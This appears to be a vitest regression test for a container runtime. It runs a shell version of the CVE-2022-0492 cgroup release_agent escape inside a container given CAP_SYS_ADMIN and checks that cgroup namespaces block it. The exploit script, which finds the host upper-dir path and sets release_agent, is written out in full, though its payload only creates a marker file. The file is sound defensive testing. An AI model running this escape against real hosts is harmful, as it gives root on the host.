// Issue 17.3 (CVE-2022-0492): a container given CAP_SYS_ADMIN (not
// --privileged) runs the published exploit: mount a cgroup v1 hierarchy,
// point its release_agent at a script in the container's upper dir (whose
// host path /proc/mounts gives away), and empty a cgroup so the host kernel
// runs the script as host root. It tries every v1 controller this host has,
// the named hierarchy, and a new named one, with the default seccomp profile
// and without any. Every container has its own cgroup namespace, so what it
// can mount is its own subtree (no release_agent there) and a new
// hierarchy is refused. On cgroup v2 it sees only its own cgroup.
import * as fs from 'node:fs'
import { afterAll, describe, expect, it } from 'vitest'
import { cgroupDirsFor, lines, pidsWithCmdline, rand, show, waitFor } from '../support/tsrun'
import { useRoot } from '../support/suite'

const { t } = useRoot()
const markers: string[] = []
afterAll(() => markers.forEach((m) => fs.rmSync(m, { force: true })))

/** The exploit, as a shell script for busybox; prints one line per attempt. */
function exploit(marker: string): string {
  return `
host_path=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -1)
printf '#!/bin/sh\\ntouch ${marker}\\n' > /cmd && chmod a+x /cmd
for opt in $(tail -n +2 /proc/cgroups | cut -f1) none,name=systemd none,name=tsrunpwn; do
  d=/tmp/cg-$opt; mkdir -p "$d"
  if mount -t cgroup -o "$opt" cgroup "$d" 2>/dev/null; then
    echo "MOUNTED $opt"
    [ -e "$d/release_agent" ] && echo "RELEASE_AGENT $opt"
    mkdir -p "$d/x" 2>/dev/null && echo 1 > "$d/x/notify_on_release" 2>/dev/null
    echo "$host_path/cmd" > "$d/release_agent" 2>/dev/null && echo "WROTE $opt"
    sh -c "echo \\$\\$ > $d/x/cgroup.procs" 2>/dev/null
  else
    echo "REFUSED $opt"
  fi
done
echo HOSTPATH $host_path
`
}

async function attack(extra: string[]): Promise<{ out: string[]; marker: string }> {
  const marker = `/tmp/tsrun-release-agent-${rand()}`
  markers.push(marker)
  const r = await t.run(['run', '--rm', '--cap-add', 'SYS_ADMIN', ...extra, 'demo:1', 'sh', '-c', exploit(marker)])
  expect(r.code, show(r)).toBe(0)
  // The host kernel would run the agent asynchronously once the cgroup empties.
  await new Promise((res) => setTimeout(res, 500))
  return { out: lines(r.stdout), marker }
}

function expectHeld({ out, marker }: { out: string[]; marker: string }) {
  const text = out.join('\n')
  expect(fs.existsSync(marker), `the host ran the release agent:\n${text}`).toBe(false)
  expect(out.filter((l) => /^(RELEASE_AGENT|WROTE) /.test(l)), text).toEqual([])
  // The attacker really had the power to mount cgroups: the namespace is what held.
  expect(out.filter((l) => l.startsWith('MOUNTED ')).length, text).toBeGreaterThan(0)
  expect(out, text).toContain('REFUSED none,name=tsrunpwn')
  expect(out.find((l) => l.startsWith('HOSTPATH '))?.length ?? 0, 'the exploit found the host path').toBeGreaterThan(10)
}

describe('CVE-2022-0492: release_agent from a container with CAP_SYS_ADMIN', () => {
  it('cgroup v1, the default seccomp profile: no release_agent is reachable', async () => {
    expectHeld(await attack([]))
  })

  it('cgroup v1, no seccomp at all: the cgroup namespace alone holds', async () => {
    expectHeld(await attack(['--security-opt', 'seccomp=unconfined']))
  })

  it('the container is at the root of its own cgroup namespace', async () => {
    const r = await t.run(['run', '--rm', 'demo:1', 'cat', '/proc/self/cgroup'])
    expect(r.code, show(r)).toBe(0)
    const ls = lines(r.stdout)
    expect(ls.length).toBeGreaterThan(0)
    for (const l of ls) expect(l, r.stdout).toMatch(/^\d+:[^:]*:\/$/)
  })

  it('cgroup v2: a cgroup2 mount shows only the container\'s own cgroup', async () => {
    const script = 'mkdir /m && mount -t cgroup2 none /m && cat /m/cgroup.procs | wc -l && ls /m | grep -c -e "^tsrun$" -e "^init.scope$" -e "^system.slice$"; ps -o pid | tail -n +2 | wc -l'
    const r = await t.run(['run', '--rm', '--cap-add', 'SYS_ADMIN', 'demo:1', 'sh', '-c', script])
    expect(r.code === 0 || r.code === 1, show(r)).toBe(true)
    const [procs, hostDirs, psCount] = lines(r.stdout).map(Number)
    // Every process listed is one of the container's own (ps counts itself
    // and its pipeline, which have started by then), and none of the host's
    // cgroups is below the mount.
    expect(procs).toBeGreaterThan(0)
    expect(procs).toBeLessThanOrEqual(psCount + 1)
    expect(hostDirs).toBe(0)
  })

  it('sub-cgroups the container makes (one frozen, with a process in it) go with it', async () => {
    const tag = `subcg-${rand()}`
    const script = `for c in memory pids freezer; do mkdir -p /cg/$c && mount -t cgroup -o $c cgroup /cg/$c && mkdir -p /cg/$c/a/b; done
sh -c 'echo $$ > /cg/freezer/a/b/cgroup.procs; echo $$ > /cg/memory/a/b/cgroup.procs; exec sleep 1000 ${tag}' &
sleep 0.3; echo FROZEN > /cg/freezer/a/freezer.state; touch /tmp/ready; exec sleep 1000`
    const r = await t.run(['run', '-d', '--cap-add', 'SYS_ADMIN', 'demo:1', 'sh', '-c', script])
    expect(r.code, show(r)).toBe(0)
    const id = r.stdout.trim()
    await waitFor(async () => (await t.run(['exec', id, 'test', '-e', '/tmp/ready'])).code === 0, 'the sub-cgroups')
    expect(cgroupDirsFor(id).filter((d) => fs.existsSync(`${d}/a/b`)).length).toBe(3)
    const rm = await t.run(['rm', '-f', id])
    expect(rm.code, show(rm)).toBe(0)
    expect(cgroupDirsFor(id)).toEqual([])
    expect(pidsWithCmdline(tag)).toEqual([])
  })
})
